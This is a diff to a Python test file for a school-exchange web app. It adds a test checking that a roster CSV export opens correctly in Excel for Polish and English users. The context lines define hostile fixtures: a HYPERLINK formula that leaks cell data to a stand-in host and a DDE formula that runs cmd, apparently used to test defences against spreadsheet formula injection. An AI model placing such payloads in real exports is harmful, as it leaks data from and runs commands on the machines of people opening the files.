@@ -18,7 +18,7 @@ from exchange.exchanges.models import ExchangeStatus
 from exchange.extensions import db
 from exchange.registrations import services
 from tests import factories
-from tests.helpers import login_as
+from tests.helpers import login_as, post_form
 
 HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
 HOSTILE_NOTE = "+cmd|' /C calc'!A0"
@@ -219,3 +219,17 @@ def test_the_import_template_is_written_through_the_helper(client, school_user):
     sheet = load_workbook(io.BytesIO(client.get("/participants/import/template.xlsx").data)).active
     assert sheet["J2"].value == "'+48 600 100 200"  # the example's phone number, defused
     assert sheet["J2"].data_type == "s"
+
+
+@pytest.mark.parametrize(("language", "delimiter"), [("pl", ";"), ("en", ",")])
+def test_roster_csv_opens_right_in_the_users_excel(
+    client, coordinator, hostile_roster, language, delimiter
+):
+    login_as(client, coordinator)
+    post_form(client, "/language", {"language": language, "next": "/"})
+    data = client.get(f"/exchanges/{hostile_roster.id}/roster.csv").data
+    assert data.startswith("\ufeff".encode())  # UTF-8 with a BOM: Polish letters survive
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
+    assert len(rows) == 2  # the header and the one registration
+    assert len(rows[0]) > 5
+    assert all(len(row) == len(rows[0]) for row in rows)
